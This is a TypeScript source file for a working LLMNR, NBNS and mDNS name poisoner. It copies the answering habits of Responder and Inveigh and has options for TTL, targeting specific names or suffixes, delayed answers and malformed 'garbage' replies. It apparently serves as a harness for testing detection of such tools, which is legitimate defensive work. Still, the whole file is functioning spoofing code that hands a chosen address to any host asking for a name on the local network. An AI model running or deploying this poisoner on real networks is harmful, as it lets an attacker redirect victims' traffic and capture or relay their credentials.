/**
 * A name poisoner with the answering habits of Responder, Inveigh and their like (FACTS 2), every dodge as an
 * option. Run as a program: `node poisoner.ts '{"ip":"10.77.0.2",...}'`; prints a line for each answer.
 */
import { createSocket, type RemoteInfo, type Socket } from "node:dgram";

export interface Habits {
	/** Its own address; handed out unless `hands` says another. */
	ip: string;
	hands?: string;
	protocols: ("llmnr" | "nbns" | "mdns")[];
	/** Seconds; `random` for each answer anew. Responder's own by default. */
	ttl?: number | "random";
	/** Answers from the nth time on that a name is asked. */
	from?: number;
	/** Answers this name alone. */
	only?: string;
	/** NetBIOS: answers this suffix alone. */
	suffix?: number;
	/** What it sends instead of an answer, behind the id. */
	garbage?: "loop" | "truncated" | "past-end";
}

const PORT = { llmnr: 5355, nbns: 137, mdns: 5353 } as const;
const TTL = { llmnr: 30, nbns: 300_000, mdns: 120 } as const;
const GROUPS = {
	llmnr: ["224.0.0.252", "ff02::1:3"],
	mdns: ["224.0.0.251", "ff02::fb"],
} as const;

type Protocol = keyof typeof PORT;

/** The first label of a question, its end, and for NetBIOS the suffix. */
function readName(protocol: Protocol, query: Buffer) {
	const length = query[12] ?? 0;
	const label = query.subarray(13, 13 + length);
	if (protocol !== "nbns")
		return { name: label.toString("latin1").toLowerCase(), suffix: -1 };
	const bytes = Buffer.alloc(16);
	for (let i = 0; i < 16; i++)
		bytes[i] =
			(((label[2 * i] ?? 65) - 65) << 4) | ((label[2 * i + 1] ?? 65) - 65);
	const name = bytes.toString("latin1", 0, 15).trim().toLowerCase();
	return { name, suffix: bytes[15] ?? 0 };
}

const ipv4 = (ip: string) => Buffer.from(ip.split(".").map(Number));

/** Behind the header: the question's own name and type, then the record. */
function answerTo(
	protocol: Protocol,
	query: Buffer,
	ttl: number,
	ip: string,
): Buffer {
	const end = query.indexOf(0, 12) + 1;
	const name = query.subarray(12, end);
	const type = query.readUInt16BE(query.length - 4);
	const times = Buffer.alloc(4);
	times.writeUInt32BE(ttl);
	if (protocol === "nbns")
		return Buffer.concat([
			query.subarray(0, 2),
			Buffer.from("85000000000100000000", "hex"),
			name,
			Buffer.from("00200001", "hex"),
			times,
			Buffer.from("00060000", "hex"),
			ipv4(ip),
		]);
	const isSix = type === 28;
	const address = isSix
		? Buffer.concat([Buffer.from("00000000000000000000ffff", "hex"), ipv4(ip)])
		: ipv4(ip);
	const record = Buffer.concat([
		name,
		Buffer.from(isSix ? "001c0001" : "00010001", "hex"),
		times,
		Buffer.from([0, address.length]),
		address,
	]);
	const isMdns = protocol === "mdns";
	return Buffer.concat([
		isMdns ? Buffer.alloc(2) : query.subarray(0, 2),
		Buffer.from(
			isMdns ? "84000000000100000000" : "80000001000100000000",
			"hex",
		),
		...(isMdns ? [] : [query.subarray(12, end + 4)]),
		record,
	]);
}

const GARBAGE = {
	// a name that points at itself
	loop: Buffer.from("80000001000100000000c00cc00c00010001", "hex"),
	truncated: Buffer.from("8000000100010000", "hex"),
	// a label of 63 bytes, of which two are there
	"past-end": Buffer.from("800000010001000000003f6161", "hex"),
};

/** What each tool is silent about: EDNS and RD (LLMNR), QU (mDNS), other flags (NetBIOS). */
function isIgnored(protocol: Protocol, query: Buffer): boolean {
	const flags = query.readUInt16BE(2);
	const counts = query.readUInt16BE(4);
	if ((flags & 0x8000) !== 0 || counts !== 1) return true;
	if (protocol === "nbns") return flags !== 0x0110;
	if (protocol === "llmnr") return flags !== 0 || query.readUInt16BE(10) !== 0;
	return query.readUInt16BE(query.length - 2) !== 1;
}

function poison(habits: Habits): void {
	const { hands = habits.ip, from = 1 } = habits;
	const asked = new Map<string, number>();

	function hear(
		protocol: Protocol,
		socket: Socket,
		query: Buffer,
		peer: RemoteInfo,
	) {
		if (query.length < 17 || isIgnored(protocol, query)) return;
		const { name, suffix } = readName(protocol, query);
		if (habits.only !== undefined && name !== habits.only) return;
		if (habits.suffix !== undefined && suffix !== habits.suffix) return;
		const key = `${protocol} ${socket.address().family} ${name} ${suffix}`;
		const times = (asked.get(key) ?? 0) + 1;
		asked.set(key, times);
		if (times < from) return;
		const ttl =
			habits.ttl === "random"
				? 1 + Math.floor(Math.random() * 100_000)
				: (habits.ttl ?? TTL[protocol]);
		const bytes = habits.garbage
			? Buffer.concat([query.subarray(0, 2), GARBAGE[habits.garbage]])
			: answerTo(protocol, query, ttl, hands);
		socket.send(bytes, peer.port, peer.address);
		process.stdout.write(`answered ${protocol} ${name} for ${peer.address}\n`);
	}

	function open(protocol: Protocol, six: boolean): void {
		const socket = createSocket({
			type: six ? "udp6" : "udp4",
			reuseAddr: true,
			ipv6Only: six,
		});
		socket.on("message", (query, peer) => hear(protocol, socket, query, peer));
		socket.bind(PORT[protocol], () => {
			if (protocol !== "nbns")
				socket.addMembership(
					GROUPS[protocol][six ? 1 : 0],
					six ? "::%eth0" : habits.ip,
				);
			process.stdout.write(`listens to ${protocol} ${six ? 6 : 4}\n`);
		});
	}

	for (const protocol of habits.protocols) {
		open(protocol, false);
		if (protocol !== "nbns") open(protocol, true);
	}
}

if (import.meta.main) poison(JSON.parse(process.argv[2] ?? "{}"));
